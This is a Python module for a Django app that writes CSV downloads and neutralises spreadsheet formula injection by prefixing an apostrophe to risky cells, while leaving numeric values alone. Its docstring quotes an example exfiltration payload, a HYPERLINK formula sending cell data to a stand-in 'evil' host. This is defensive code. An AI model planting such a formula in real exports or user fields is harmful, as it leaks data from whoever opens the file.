"""Cells for CSV files that people open in a spreadsheet.

A cell that starts with =, +, -, @, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as
a formula ("CSV injection", OWASP): a conversation title or a username such as `=HYPERLINK("http://evil/?"&A1)`
would run when an admin opens the export. Every CSV writer here passes its cells through `spreadsheet_safe`.
"""

import csv
from decimal import Decimal

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value) -> str:
    """The cell as text, with a leading apostrophe where a spreadsheet would otherwise read a formula.

    Numbers stay numbers: a negative amount (-1.5) is data, not a formula, so ints, floats and Decimals are
    written as they are. None is an empty cell.
    """
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_response(filename: str, header, rows) -> HttpResponse:
    """A CSV download of `rows` under `header`, every cell through spreadsheet_safe. `rows` may be a lazy
    iterator (a queryset's values_list().iterator()): it is written as it is read."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    writer = csv.writer(response)
    writer.writerow([spreadsheet_safe(cell) for cell in header])
    writer.writerows([spreadsheet_safe(cell) for cell in row] for row in rows)
    return response
